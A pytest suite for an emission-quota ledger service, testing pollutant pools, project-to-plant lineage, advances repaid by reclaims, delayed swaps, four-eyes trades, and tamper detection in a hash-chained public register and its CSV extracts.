"""The ledger beyond the registries (issue 12), in process on SQLite and
PostgreSQL: pollutants, lineage from project to plant, advance use repaid by
a later reclaim, swaps with a cancellable delay, trading with four eyes, the
public register caught rewritten, the export round trip."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import zipfile
from collections.abc import AsyncIterator, Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from prometheus_client.parser import text_string_to_metric_families
from quota_svc.app import create
from quota_svc.register.rules import split_extract
from quota_svc.register.service import chain_pending
from quota_svc.settings import Settings
from quota_svc.swaps.service import settle_due
from sqlalchemy import text
from svc_common import clock, testing
from svc_common.uscc import check_character
from typer.testing import CliRunner

from bureau.register_cli import app as register_cli

from .conftest import ADMIN, ADMIN2, AUDITOR, INVESTMENT, JIZHOU, OFFICER, OFFICER2, Quota
from .test_events import cancelled, changed

BINHAI = "120116"  # 滨海新区
BINHAI_OFFICER = testing.auth("officer", [BINHAI], sub="officer.binhai.chen")
BINHAI_OFFICER2 = testing.auth("officer", [BINHAI], sub="officer.binhai.he")
T0 = dt.datetime(2026, 3, 1, 1, 0, tzinfo=dt.UTC)


def uscc(seed: str) -> str:
    body = ("91120225" + seed.upper().replace("I", "J").replace("O", "P"))[:17].ljust(17, "7")
    for bad, good in (("S", "T"), ("V", "W"), ("Z", "Y")):
        body = body.replace(bad, good)
    return body + check_character(body)


@pytest.fixture
def manual() -> Iterator[clock.ManualClock]:
    with clock.using(clock.ManualClock(T0, flowing=True)) as c:
        assert isinstance(c, clock.ManualClock)
        yield c


@pytest.fixture
async def q(db_url: str, manual: clock.ManualClock) -> AsyncIterator[Quota]:
    settings = Settings(
        database_url=db_url, log_json=False, hold_sweep_seconds=3600, swap_delay="P3D"
    )
    app = create(settings)
    async with testing.running(app) as client:
        yield Quota(app, client)


async def post(q: Quota, path: str, body: Any, headers: dict[str, str], status: int = 200) -> Any:
    r = await q.client.post(path, json=body, headers=headers)
    assert r.status_code == status, r.text
    return r.json()


async def confirm_all_pending(q: Quota, district: str = JIZHOU) -> list[dict[str, Any]]:
    pending = (
        await q.client.get(f"/quota/reclaims?district={district}&status=pending", headers=OFFICER)
    ).json()["items"]
    return [await post(q, f"/quota/reclaims/{c['id']}/confirm", None, OFFICER) for c in pending]


async def reserve(q: Quota, project: str, increment: str, **extra: Any) -> Any:
    body = {"district": JIZHOU, "increment_t": increment, "project_ref": project, **extra}
    return await post(q, "/quota/reservations", body, extra.pop("headers", OFFICER), 201)


async def lineage(q: Quota, rid: str) -> dict[str, Any]:
    r = await q.client.get(f"/quota/reservations/{rid}/lineage", headers=AUDITOR)
    assert r.status_code == 200, r.text
    return dict(r.json())


async def reconciled(q: Quota) -> dict[str, Any]:
    r = await q.client.get("/quota/reconciliation", headers=AUDITOR)
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["ok"], [c for c in body["checks"] if not c["ok"]]
    return dict(body)


async def test_four_pollutants_each_through_the_ledger(q: Quota) -> None:
    r = await q.client.get("/quota/pollutants")
    assert r.status_code == 200
    listed = {p["code"]: p for p in r.json()}
    assert list(listed) == ["VOCs", "NOx", "COD", "NH3-N"]
    assert {(p["unit"], p["decimals"], p["need_rounding"]) for p in listed.values()} == {
        ("t/a", 3, "up")
    }
    assert [p["follows_air_quality"] for p in listed.values()] == [True, True, False, False]
    # Air quality "exceeded" calls for 2.0 on air pollutants only; water ones keep the default.
    await q.client.put(
        "/quota/air-quality-ratios/exceeded", json={"offset_ratio": "2.5"}, headers=ADMIN
    )
    r = await q.client.put(
        f"/quota/air-quality/{JIZHOU}", json={"status": "exceeded"}, headers=ADMIN
    )
    assert r.status_code == 200 and r.json()["offset_ratio"] == "2.50", r.text
    for code, ratio in [("VOCs", "2.50"), ("NOx", "2.50"), ("COD", "2.00"), ("NH3-N", "2.00")]:
        await post(q, f"/quota/pools/{JIZHOU}/{code}/baseline", {"amount_t": "10"}, ADMIN, 201)
        held = await reserve(q, f"P-{code}", "1.001", pollutant=code)
        assert held["offset_ratio"] == ratio
        need = (Decimal("1.001") * Decimal(ratio)).quantize(Decimal("0.001"), "ROUND_CEILING")
        assert held["required_t"] == str(need)
        await post(q, f"/quota/reservations/{held['id']}/allocate", {}, OFFICER)
        (lot,) = (await lineage(q, held["id"]))["lots"]
        assert (lot["lot"]["source"], lot["lot"]["pollutant"]) == ("baseline", code)
        assert lot["allocated_t"] == str(need)
    r = await q.client.post(
        f"/quota/pools/{JIZHOU}/SO2/baseline", json={"amount_t": "1"}, headers=ADMIN
    )
    assert r.status_code == 422 and "SO2" in r.json()["detail"]
    await reconciled(q)


async def test_a_pollutant_typed_in_a_path_or_query_reads_as_the_console_reads_it(
    q: Quota,
) -> None:
    """`ＶＯＣｓ` (a Chinese IME in full-width mode), `vocs` or ` NOx ` in a
    path or a query was refused as no pollutant ("'ＶＯＣｓ' 不是总量控制污染物"),
    where the console's pages read it as VOCs; an adjustment's pool was not
    found. Each now reads as the pollutant it names; one it names none of is
    refused naming it as it reads."""
    await post(q, f"/quota/pools/{JIZHOU}/ｎｏｘ/baseline", {"amount_t": "2"}, ADMIN, 201)
    await post(q, f"/quota/pools/{JIZHOU}/VOCs/baseline", {"amount_t": "10"}, ADMIN, 201)
    for typed in ("ＶＯＣｓ", "vocs", "%20Vocs%E3%80%80"):
        r = await q.client.get(f"/quota/balances/{JIZHOU}/{typed}", headers=AUDITOR)
        assert r.status_code == 200, (typed, r.text)
        assert (r.json()["pool_id"], r.json()["available_t"]) == (f"{JIZHOU}:VOCs", "10.000")
        r = await q.client.get(f"/quota/availability?pollutant={typed}", headers=INVESTMENT)
        assert r.status_code == 200, (typed, r.text)
        assert {p["pool_id"].split(":")[1] for p in r.json()} == {"VOCs"}, r.text
    r = await q.client.get("/quota/journal", params={"pollutant": " ＮＯｘ"}, headers=AUDITOR)
    assert r.status_code == 200
    assert [(e["pool_id"], e["amount_t"]) for e in r.json()["items"]] == [
        (f"{JIZHOU}:NOx", "2.000")
    ]
    zh = {**INVESTMENT, "accept-language": "zh-CN"}
    r = await q.client.get("/quota/availability", params={"pollutant": "ＳＯ２"}, headers=zh)
    assert r.status_code == 422, r.text
    assert r.json()["errors"][0]["field"] == "pollutant"
    assert "'SO2' 不是总量控制污染物" in r.json()["detail"], r.json()


async def test_jizhou_lineage_advance_and_swaps(q: Quota, manual: clock.ManualClock) -> None:
    """蓟州区: two closed plants' lots consumed by two projects (lineage from
    project to plant); an advance of 3 t repaid by a later reclaim; a swap
    from 滨海新区 cancelled during its delay, another settled."""
    plant_a, plant_b, plant_c = uscc("PLANTA1"), uscc("PLANTB2"), uscc("PLANTC3")
    for permit, freed, code in [("PM-A", "3.2", plant_a), ("PM-B", "1.8", plant_b)]:
        ev = cancelled(permit, freed).model_copy(update={"uscc": code})
        await testing.deliver(q.app, ev)
    confirmed = await confirm_all_pending(q)
    assert sorted(c["amount_t"] for c in confirmed) == ["1.800", "3.200"]

    first = await reserve(q, "proj-1", "1.0", uscc=uscc("PROJONE"))  # needs 2.0
    second = await reserve(q, "proj-2", "1.5", uscc=uscc("PROJTWO"))  # needs 3.0
    for r in (first, second):
        await post(q, f"/quota/reservations/{r['id']}/allocate", {}, OFFICER)
    one, two = await lineage(q, first["id"]), await lineage(q, second["id"])
    assert [(x["lot"]["uscc"], x["allocated_t"]) for x in one["lots"]] == [(plant_a, "2.000")]
    assert [(x["lot"]["uscc"], x["allocated_t"]) for x in two["lots"]] == [
        (plant_a, "1.200"),
        (plant_b, "1.800"),
    ]
    assert {x["lot"]["permit_id"] for x in two["lots"]} == {"PM-A", "PM-B"}
    assert all(x["lot"]["confirmed_by"] == "officer.wang" for x in two["lots"])
    lot_a = two["lots"][0]["lot"]["id"]
    detail = (await q.client.get(f"/quota/lots/{lot_a}", headers=INVESTMENT)).json()
    assert detail["lot"]["available_t"] == "0.000" and detail["lot"]["allocated_t"] == "3.200"
    assert {m["reservation_id"] for m in detail["movements"] if m["code"] == "allocate"} == {
        first["id"],
        second["id"],
    }

    # 先用后补: the pool is empty; an advance of 3 t needs an admin and a limit.
    assert (await q.availability(JIZHOU))["available_t"] == "0.000"
    body = {"district": JIZHOU, "increment_t": "1.5", "project_ref": "proj-3", "advance": True}
    r = await q.client.post("/quota/reservations", json=body, headers=OFFICER)
    assert r.status_code == 403
    r = await q.client.post("/quota/reservations", json=body, headers=ADMIN)
    assert r.status_code == 409 and r.json()["reason"] == "over_advance_limit", r.text
    await q.client.put(
        f"/quota/advance-limits/{JIZHOU}/VOCs",
        json={"limit_t": "5", "term_days": 30},
        headers=ADMIN,
    )
    third = await post(q, "/quota/reservations", body, ADMIN, 201)
    assert third["required_t"] == "3.000"
    a = await q.availability(JIZHOU)
    assert (a["debt_t"], a["overdue_debt_t"], a["available_t"]) == ("3.000", "0.000", "0.000")
    # 31 days on, the debt is overdue: it shows, and blocks further advances.
    manual.advance_now(dt.timedelta(days=31))
    overdue = (
        await q.client.get(f"/quota/debts?district={JIZHOU}&overdue=true", headers=INVESTMENT)
    ).json()["items"]
    assert [(d["amount_t"], d["outstanding_t"], d["overdue"]) for d in overdue] == [
        ("3.000", "3.000", True)
    ]
    body4 = {**body, "project_ref": "proj-4", "increment_t": "0.5"}
    r = await q.client.post("/quota/reservations", json=body4, headers=ADMIN)
    assert r.status_code == 409 and r.json()["reason"] == "overdue_debt", r.text
    page = (await q.client.get("/quota/dashboard", headers=INVESTMENT)).text
    assert "3.000 逾期" in page
    a = await q.availability(JIZHOU)
    assert (a["debt_t"], a["overdue_debt_t"]) == ("3.000", "3.000")
    # A later reclaim (plant C, 4 t) repays the debt first.
    await testing.deliver(q.app, cancelled("PM-C", "4").model_copy(update={"uscc": plant_c}))
    await confirm_all_pending(q)
    a = await q.availability(JIZHOU)
    assert (a["debt_t"], a["available_t"], a["credited_t"]) == ("0.000", "1.000", "9.000")
    (repaid,) = (await q.client.get(f"/quota/debts?district={JIZHOU}", headers=AUDITOR)).json()[
        "items"
    ]
    assert (repaid["status"], repaid["repaid_t"]) == ("repaid", "3.000")
    three = await lineage(q, third["id"])
    (adv,) = three["lots"]
    assert adv["lot"]["source"] == "advance"
    assert [(x["lot"]["uscc"], x["amount_t"]) for x in adv["repaid_by"]] == [(plant_c, "3.000")]

    # 跨区调剂 滨海新区 → 蓟州区: proposed, approved by each side, cancelled in the delay.
    await post(q, f"/quota/pools/{BINHAI}/VOCs/baseline", {"amount_t": "50"}, ADMIN, 201)
    swap = {"from": BINHAI, "to": JIZHOU, "amount_t": "10", "reason": "重点项目调剂"}
    s1 = await post(q, "/quota/swaps", swap, BINHAI_OFFICER, 201)
    r = await q.client.post(f"/quota/swaps/{s1['id']}/approve", headers=BINHAI_OFFICER)
    assert r.status_code == 409 and r.json()["reason"] == "proposer_approves"
    await post(q, f"/quota/swaps/{s1['id']}/approve", None, BINHAI_OFFICER2)
    held = await post(q, f"/quota/swaps/{s1['id']}/approve", None, OFFICER)
    assert held["status"] == "approved"
    binhai = (
        await q.client.get(f"/quota/availability?district={BINHAI}", headers=INVESTMENT)
    ).json()[0]
    assert (binhai["reserved_t"], binhai["available_t"]) == ("10.000", "40.000")
    manual.advance_now(dt.timedelta(days=1))
    assert await settle_due(q.app.state.runtime.db) == 0  # still in its delay
    cancelled_swap = await post(
        q, f"/quota/swaps/{s1['id']}/cancel", {"reason": "项目撤回"}, OFFICER2
    )
    assert cancelled_swap["status"] == "cancelled"
    manual.advance_now(dt.timedelta(days=5))
    assert await settle_due(q.app.state.runtime.db) == 0
    # Another, settled after its delay: the tonnes' lineage leads to 滨海新区.
    s2 = await post(q, "/quota/swaps", {**swap, "amount_t": "6"}, OFFICER, 201)
    await post(q, f"/quota/swaps/{s2['id']}/approve", None, OFFICER2)
    await post(q, f"/quota/swaps/{s2['id']}/approve", None, BINHAI_OFFICER)
    r = await q.client.post(
        f"/quota/swaps/{s2['id']}/cancel", json={"reason": "x"}, headers=INVESTMENT
    )
    assert r.status_code == 403
    manual.advance_now(dt.timedelta(days=3, seconds=1))
    assert await settle_due(q.app.state.runtime.db) == 1
    a = await q.availability(JIZHOU)
    assert (a["credited_t"], a["available_t"]) == ("15.000", "7.000")
    binhai = (
        await q.client.get(f"/quota/availability?district={BINHAI}", headers=INVESTMENT)
    ).json()[0]
    assert (binhai["credited_t"], binhai["reserved_t"], binhai["available_t"]) == (
        "44.000",
        "0.000",
        "44.000",
    )
    fifth = await reserve(q, "proj-5", "3.5")  # needs 7.0: 1.0 of plant C, 6.0 swapped
    five = await lineage(q, fifth["id"])
    assert [(x["lot"]["source"], x["held_t"]) for x in five["lots"]] == [
        ("reclaim", "1.000"),
        ("swap", "6.000"),
    ]
    origin = five["lots"][1]["ancestry"][-1]
    assert (origin["district"], origin["source"]) == (BINHAI, "baseline")
    await reconciled(q)


async def allocate_to(q: Quota, project: str, increment: str, owner: str) -> dict[str, Any]:
    r = await reserve(q, project, increment, uscc=owner)
    return dict(await post(q, f"/quota/reservations/{r['id']}/allocate", {}, OFFICER))


async def test_a_proposed_trade_can_be_withdrawn_or_declined(q: Quota) -> None:
    """Four eyes means the second officer may say no: a proposed trade is
    withdrawn by its proposer or declined by the officer asked to approve it
    (撤回, with the reason), and then can no longer be approved; a settled
    trade cannot be cancelled."""
    seller, buyer = uscc("SELLER1"), uscc("BUYER22")
    await q.baseline(JIZHOU, "20")
    await allocate_to(q, "proj-s", "3", seller)
    trade = {
        "seller": seller,
        "buyer": buyer,
        "district": JIZHOU,
        "amount_t": "2",
        "price_cny_per_t": "12000",
        "contract_ref": "TJ-EX-2026-009",
    }
    t = await post(q, "/quota/trades", trade, OFFICER, 201)
    r = await q.client.post(
        f"/quota/trades/{t['id']}/cancel", json={"reason": " "}, headers=OFFICER2
    )
    assert r.status_code == 422  # a reason is required
    r = await q.client.post(
        f"/quota/trades/{t['id']}/cancel", json={"reason": "x"}, headers=BINHAI_OFFICER
    )
    assert r.status_code == 404  # neither district's: not found, as one that does not exist
    declined = await post(
        q, f"/quota/trades/{t['id']}/cancel", {"reason": "合同价格明显偏离市场价"}, OFFICER2
    )
    assert (declined["status"], declined["refusal_detail"]) == (
        "cancelled",
        "合同价格明显偏离市场价",
    )
    r = await q.client.post(f"/quota/trades/{t['id']}/approve", headers=ADMIN)
    assert r.status_code == 409
    # Withdrawn by its proposer; a settled one stays settled.
    t2 = await post(q, "/quota/trades", {**trade, "contract_ref": "TJ-EX-2026-010"}, OFFICER, 201)
    assert (await post(q, f"/quota/trades/{t2['id']}/cancel", {"reason": "撤回"}, OFFICER))[
        "status"
    ] == "cancelled"
    t3 = await post(q, "/quota/trades", {**trade, "contract_ref": "TJ-EX-2026-011"}, OFFICER, 201)
    await post(q, f"/quota/trades/{t3['id']}/approve", None, OFFICER2)
    r = await q.client.post(
        f"/quota/trades/{t3['id']}/cancel", json={"reason": "x"}, headers=OFFICER
    )
    assert r.status_code == 409
    (sh,) = (await q.client.get(f"/quota/holdings?uscc={seller}", headers=INVESTMENT)).json()[
        "items"
    ]
    assert sh["amount_t"] == "4.000"  # only the settled trade moved anything
    await reconciled(q)


async def test_trades_checked_four_eyes_and_cross_district(q: Quota) -> None:
    seller, buyer, other = uscc("SELLER1"), uscc("BUYER22"), uscc("BUYERB3")
    await q.baseline(JIZHOU, "20")
    await allocate_to(q, "proj-s", "3", seller)  # 6 t of quota, 3 t of rights
    (h,) = (await q.client.get(f"/quota/holdings?uscc={seller}", headers=INVESTMENT)).json()[
        "items"
    ]
    assert (h["amount_t"], h["rights_t"], h["valid"]) == ("6.000", "3.000", True)
    assert h["valid_until"].startswith("2031-03-01")
    trade = {
        "seller": seller,
        "buyer": buyer,
        "district": JIZHOU,
        "amount_t": "2",
        "price_cny_per_t": "12000.50",
        "contract_ref": "TJ-EX-2026-001",
    }
    r = await q.client.post("/quota/trades", json={**trade, "amount_t": "7"}, headers=OFFICER)
    assert r.status_code == 409 and r.json()["reason"] == "seller_holds_too_little"
    r = await q.client.post("/quota/trades", json={**trade, "buyer": seller}, headers=OFFICER)
    assert r.status_code == 409 and r.json()["reason"] == "same_enterprise"
    r = await q.client.post(
        "/quota/trades", json={**trade, "seller": "91120225XXXXXXXXX1"}, headers=OFFICER
    )
    assert r.status_code == 422
    # A price is an exact decimal string like an amount: no JSON number (a
    # float), no exponent ("1e3" was stored as 1000.00), at most 2 decimals.
    for price in (
        1000,
        1000.5,
        "1e3",
        "1E+3",
        "12000.505",
        "-1",
        "100000000.01",
        " 1",
        "1,000",
        "1\n",
    ):
        r = await q.client.post(
            "/quota/trades", json={**trade, "price_cny_per_t": price}, headers=OFFICER
        )
        assert r.status_code == 422, (price, r.text)
        assert [e["field"] for e in r.json()["errors"]] == ["price_cny_per_t"], (price, r.text)
    t = await post(q, "/quota/trades", trade, OFFICER, 201)
    assert t["status"] == "proposed" and t["price_cny_per_t"] == "12000.50"
    r = await q.client.post(f"/quota/trades/{t['id']}/approve", headers=OFFICER)
    assert r.status_code == 409 and r.json()["reason"] == "proposer_approves"
    done = await post(q, f"/quota/trades/{t['id']}/approve", None, OFFICER2)
    assert (done["status"], done["seller_rights_t"], done["buyer_rights_t"]) == (
        "settled",
        "1.000",
        "1.000",
    )
    [settled] = await q.events("quota.trade.settled.v1")
    assert (settled["seller_uscc"], settled["buyer_uscc"], settled["amount_t"]) == (
        seller,
        buyer,
        "2.000",
    )
    (bh,) = (await q.client.get(f"/quota/holdings?uscc={buyer}", headers=INVESTMENT)).json()[
        "items"
    ]
    assert (bh["source"], bh["amount_t"], bh["rights_t"]) == ("trade", "2.000", "1.000")
    (sh,) = (await q.client.get(f"/quota/holdings?uscc={seller}", headers=INVESTMENT)).json()[
        "items"
    ]
    assert (sh["amount_t"], sh["rights_t"]) == ("4.000", "2.000")
    # Across districts, at the buyer district's ratio (滨海新区, attained: 1.0).
    await q.client.put(f"/quota/air-quality/{BINHAI}", json={"status": "attained"}, headers=ADMIN)
    cross = {
        **trade,
        "buyer": other,
        "buyer_district": BINHAI,
        "amount_t": "3",
        "contract_ref": "TJ-EX-2026-002",
    }
    t2 = await post(q, "/quota/trades", cross, ADMIN, 201)
    done2 = await post(q, f"/quota/trades/{t2['id']}/approve", None, ADMIN2)
    assert (done2["offset_ratio"], done2["buyer_rights_t"], done2["seller_rights_t"]) == (
        "1.00",
        "3.000",
        "1.500",
    )
    jz = await q.availability(JIZHOU)
    assert (jz["credited_t"], jz["allocated_t"]) == ("17.000", "3.000")
    bh = (await q.client.get(f"/quota/availability?district={BINHAI}", headers=INVESTMENT)).json()[
        0
    ]
    assert (bh["credited_t"], bh["allocated_t"], bh["available_t"]) == ("3.000", "3.000", "0.000")
    (oh,) = (await q.client.get(f"/quota/holdings?uscc={other}", headers=INVESTMENT)).json()[
        "items"
    ]
    r = await q.client.get(f"/quota/lots/{oh['lots'][0][0]}", headers=AUDITOR)
    assert r.json()["ancestry"][-1]["source"] == "baseline"
    assert r.json()["ancestry"][-1]["district"] == JIZHOU
    await reconciled(q)


async def holdings_of(q: Quota, owner: str) -> list[dict[str, Any]]:
    r = await q.client.get(f"/quota/holdings?uscc={owner}", headers=INVESTMENT)
    assert r.status_code == 200, r.text
    return sorted(r.json()["items"], key=lambda h: (h["retired_at"] or "", h["id"]))


async def test_a_reclaimed_plants_holdings_are_retired_not_sold_again(q: Quota) -> None:
    """收回注销: the tonnes a closed (or cut) permit frees come back to the pool
    once; the rights the enterprise held for them can no longer be sold."""
    plant, buyer = uscc("PLANT01"), uscc("BUYER77")
    await q.baseline(JIZHOU, "20")
    await allocate_to(q, "proj-plant", "3", plant)  # 6 t of quota, 3 t of rights
    trade = {
        "seller": plant,
        "buyer": buyer,
        "district": JIZHOU,
        "amount_t": "1",
        "price_cny_per_t": "10000",
        "contract_ref": "TJ-EX-2026-101",
    }
    # The permit is cut by 1 t: 1 t of rights (2 t of quota) retired, the rest kept.
    await testing.deliver(q.app, changed("PM-P1", "-1", plant))
    [decided] = await confirm_all_pending(q)
    assert (decided["status"], decided["amount_t"]) == ("confirmed", "1.000")
    kept, retired = await holdings_of(q, plant)
    assert (kept["amount_t"], kept["rights_t"], kept["tradable"]) == ("4.000", "2.000", True)
    assert (retired["amount_t"], retired["rights_t"], retired["tradable"]) == (
        "2.000",
        "1.000",
        False,
    )
    assert retired["reclaim_id"] == decided["id"] and retired["retired_at"]
    assert sum(n for _, n in kept["lots"] + retired["lots"]) == 6000
    # What is kept can still be sold; more than that cannot.
    r = await q.client.post("/quota/trades", json={**trade, "amount_t": "4.5"}, headers=OFFICER)
    assert r.status_code == 409 and r.json()["reason"] == "seller_holds_too_little"
    proposed = await post(q, "/quota/trades", trade, OFFICER, 201)
    # The plant closes: everything it still holds is retired, and the trade
    # proposed before is refused when approved.
    closed = cancelled("PM-P1", "2").model_copy(update={"uscc": plant})
    await testing.deliver(q.app, closed)
    await confirm_all_pending(q)
    assert [h["tradable"] for h in await holdings_of(q, plant)] == [False, False]
    r = await q.client.post(f"/quota/trades/{proposed['id']}/approve", headers=OFFICER2)
    assert r.status_code == 409 and r.json()["reason"] == "seller_holds_too_little"
    assert await holdings_of(q, buyer) == []
    # The pool: 3 t freed in all, the 6 t allocated stay allocated (used).
    a = await q.availability(JIZHOU)
    assert (a["credited_t"], a["allocated_t"], a["available_t"]) == ("23.000", "6.000", "17.000")
    await reconciled(q)


async def test_register_public_verified_and_tamper_caught(q: Quota, tmp_path: Path) -> None:
    await q.baseline(JIZHOU, "10")
    held = await reserve(q, "proj-r", "2")
    await post(q, f"/quota/reservations/{held['id']}/allocate", {}, OFFICER)
    await chain_pending(q.app.state.runtime.db)
    r = await q.client.get("/quota/public/register", params={"limit": 2})  # no token
    assert r.status_code == 200 and len(r.json()["items"]) == 2 and r.json()["next_cursor"]
    first = r.json()["items"][0]
    assert (first["seq"], first["kind"], first["amount_t"]) == ("1", "baseline", "10.000")
    assert "admin" not in str(r.json())  # no actors: no personal data
    head = (await q.client.get("/quota/public/head")).json()
    csv_text = (await q.client.get("/quota/public/register?format=csv")).text
    rows = list(csv.DictReader(io.StringIO(csv_text)))
    assert rows[-1]["hash"] == head["hash"] and len(rows) == head["seq"]
    assert [row["kind"] for row in rows] == ["baseline", "reserve", "allocate"]
    good = tmp_path / "register.csv"
    good.write_text(csv_text, encoding="utf-8")
    runner = CliRunner()
    ok = runner.invoke(register_cli, ["verify", str(good)])
    assert ok.exit_code == 0 and head["hash"] in ok.stdout
    # Someone rewrites the second stored entry (the reservation's hold) in place.
    async with q.app.state.runtime.db.transaction() as s:
        await s.execute(text("UPDATE register_entries SET amount_kg = 1000 WHERE seq = 2"))
    tampered = tmp_path / "tampered.csv"
    tampered.write_text((await q.client.get("/quota/public/register?format=csv")).text)
    bad = runner.invoke(register_cli, ["verify", str(tampered)])
    assert bad.exit_code == 1 and "seq=2" in bad.output and "content" in bad.output
    rec = (await q.client.get("/quota/reconciliation", headers=AUDITOR)).json()
    assert not rec["ok"]
    assert [c["number"] for c in rec["checks"] if not c["ok"]] == [6]
    metrics = (await q.client.get("/quota/metrics")).text
    failed = {
        (sample.labels["check"], sample.value)
        for family in text_string_to_metric_families(metrics)
        if family.name == "quota_reconciliation_failed_checks"
        for sample in family.samples
        if sample.labels.get("service") == "quota-svc"
    }
    assert ("R6", 1.0) in failed and ("R1", 0.0) in failed


async def test_the_register_is_filtered_by_pollutant_and_district_by_index(q: Quota) -> None:
    """`GET /quota/public/register?pollutant=NOx` kept every entry (the
    parameter was not there); now it keeps that pollutant's, with `district`
    their common ones, each read by an index in sequence order; a pollutant
    or a district made up is refused naming its field."""
    for district, pollutant in ((JIZHOU, "VOCs"), (JIZHOU, "NOx"), (BINHAI, "NOx")):
        r = await q.client.post(
            f"/quota/pools/{district}/{pollutant}/baseline", json={"amount_t": "1"}, headers=ADMIN
        )
        assert r.status_code == 201, r.text
    await chain_pending(q.app.state.runtime.db)

    async def kept(**params: str) -> list[tuple[str, str]]:
        r = await q.client.get("/quota/public/register", params=params)
        assert r.status_code == 200, r.text
        return [(i["district"], i["pollutant"]) for i in r.json()["items"]]

    assert await kept(pollutant="NOx") == [(JIZHOU, "NOx"), (BINHAI, "NOx")]
    assert await kept(pollutant="NOx", district=BINHAI) == [(BINHAI, "NOx")]
    assert await kept(pollutant="VOCs", district=BINHAI) == []
    csv_text = (await q.client.get("/quota/public/register?format=csv&pollutant=NOx")).text
    _, rows = split_extract(csv_text)
    assert [row["pollutant"] for row in csv.DictReader(io.StringIO(rows))] == ["NOx", "NOx"]
    for field, value in (("pollutant", "CO2"), ("district", "120199")):
        r = await q.client.get("/quota/public/register", params={field: value})
        assert r.status_code == 422, r.text
        assert r.headers["content-type"].startswith("application/problem+json")
        assert [e["field"] for e in r.json()["errors"]] == [field], r.json()
    # One district (one pollutant) at a time: given twice, refused naming it,
    # never the last one read in silence (the console's page says the same).
    for field, values in (("district", [JIZHOU, BINHAI]), ("pollutant", ["NOx", "VOCs"])):
        r = await q.client.get(
            "/quota/public/register",
            params=[(field, v) for v in values],
            headers={"Accept-Language": "zh-CN"},
        )
        assert r.status_code == 422, r.text
        assert r.headers["content-type"].startswith("application/problem+json")
        assert r.json()["errors"] == [
            {"field": field, "message": "只能给出一次", "type": "repeated_parameter"}
        ], r.json()
    db = q.app.state.runtime.db
    indexes = {
        "pollutant = 'NOx'": "ix_register_pollutant",
        "district = '120116' AND pollutant = 'NOx'": "ix_register_district_pollutant",
    }
    async with db.session() as s:
        if db.engine.dialect.name == "postgresql":
            # Its planner takes the table for so few rows: the indexes are there.
            names = await s.scalars(
                text("SELECT indexname FROM pg_indexes WHERE tablename = 'register_entries'")
            )
            assert set(indexes.values()) <= set(names)
            return
        for where, index in indexes.items():
            plan = " ".join(
                str(row[-1])
                for row in await s.execute(
                    text(
                        "EXPLAIN QUERY PLAN SELECT * FROM register_entries "
                        f"WHERE {where} ORDER BY seq LIMIT 51"
                    )
                )
            )
            assert f"USING INDEX {index}" in plan and "TEMP B-TREE" not in plan, plan


async def test_a_filtered_csv_says_it_is_an_extract_and_verifies_against_the_register(
    q: Quota, tmp_path: Path
) -> None:
    """A filtered CSV (`?format=csv&pollutant=NOx`) looked like the register
    and `bureau register verify` called it broken (its sequence jumps, its
    prev_hash are of entries left out). Its first lines now say it is an
    extract, with its filter and the head it was cut at; verified alone it
    is refused as no chain, and against the full register it is intact only
    when it is exactly that register's entries of its filter up to its head."""
    for district, pollutant in ((JIZHOU, "VOCs"), (JIZHOU, "NOx"), (BINHAI, "NOx")):
        r = await q.client.post(
            f"/quota/pools/{district}/{pollutant}/baseline", json={"amount_t": "1"}, headers=ADMIN
        )
        assert r.status_code == 201, r.text
    await chain_pending(q.app.state.runtime.db)
    head = (await q.client.get("/quota/public/head")).json()
    r = await q.client.get("/quota/public/register?format=csv&pollutant=NOx")
    assert 'filename="quota-register-extract.csv"' in r.headers["content-disposition"]
    said = r.text.splitlines()[:4]
    assert said == [
        "# 公开登记簿筛选摘录，不是完整登记簿 (a filtered extract of the public register: "
        "not the full register)",
        "# filter: pollutant=NOx",
        f"# head: seq={head['seq']};hash={head['hash']}",
        "# 核验：bureau register verify 本文件 --against 完整登记簿（其 CSV 或网址）"
        " (verify: bureau register verify FILE --against the full register's CSV or URL)",
    ]
    assert not any("," in line for line in said)  # each whole in a spreadsheet's first cell
    full = (await q.client.get("/quota/public/register?format=csv")).text
    assert not full.startswith("#")  # the whole register reads as it did
    extract, whole = tmp_path / "nox.csv", tmp_path / "register.csv"
    extract.write_text(r.text, encoding="utf-8")
    whole.write_text(full, encoding="utf-8")

    runner = CliRunner()
    alone = runner.invoke(register_cli, ["verify", str(extract)])
    assert alone.exit_code == 2 and "筛选摘录不是完整登记簿" in _flat(alone.output)
    ok = runner.invoke(register_cli, ["verify", str(extract), "--against", str(whole)])
    assert ok.exit_code == 0, ok.output
    assert head["hash"] in ok.stdout and "pollutant=NOx" in ok.output

    lines = r.text.splitlines(keepends=True)
    data = [i for i, line in enumerate(lines) if line.startswith(("1,", "2,", "3,"))]
    short = tmp_path / "short.csv"  # an entry of the filter left out
    short.write_text("".join(lines[: data[0]] + lines[data[0] + 1 :]), encoding="utf-8")
    bad = runner.invoke(register_cli, ["verify", str(short), "--against", str(whole)])
    assert bad.exit_code == 1 and "missing" in bad.output, bad.output
    changed = tmp_path / "changed.csv"  # an entry's amount rewritten
    changed.write_text(r.text.replace(",1.000,", ",9.000,", 1), encoding="utf-8")
    bad = runner.invoke(register_cli, ["verify", str(changed), "--against", str(whole)])
    assert bad.exit_code == 1 and "differs" in bad.output, bad.output


def _flat(output: str) -> str:
    """What the CLI said with its box and every space and line break taken
    out: where Rich breaks a line depends on the terminal's width and the
    temporary path's length (CI's is longer), so a phrase is matched whole."""
    return "".join(c for c in output if c not in "│╭╮╰╯─" and not c.isspace())


async def test_an_extract_against_an_older_saved_register_is_said_older_not_broken(
    q: Quota, tmp_path: Path
) -> None:
    """A full register saved yesterday, an extract downloaded today: the
    saved copy ends before the extract's head. That was "broken … the full
    register does not reach the head" (exit 1, as if tampered with); it is
    said to be older than the extract (exit 2, nothing verified)."""
    r = await q.client.post(
        f"/quota/pools/{JIZHOU}/NOx/baseline", json={"amount_t": "1"}, headers=ADMIN
    )
    assert r.status_code == 201, r.text
    await chain_pending(q.app.state.runtime.db)
    whole = tmp_path / "register-yesterday.csv"
    whole.write_text((await q.client.get("/quota/public/register?format=csv")).text, "utf-8")
    r = await q.client.post(
        f"/quota/pools/{BINHAI}/NOx/baseline", json={"amount_t": "2"}, headers=ADMIN
    )
    assert r.status_code == 201, r.text
    await chain_pending(q.app.state.runtime.db)
    extract = tmp_path / "nox-today.csv"
    extract.write_text(
        (await q.client.get("/quota/public/register?format=csv&pollutant=NOx")).text, "utf-8"
    )
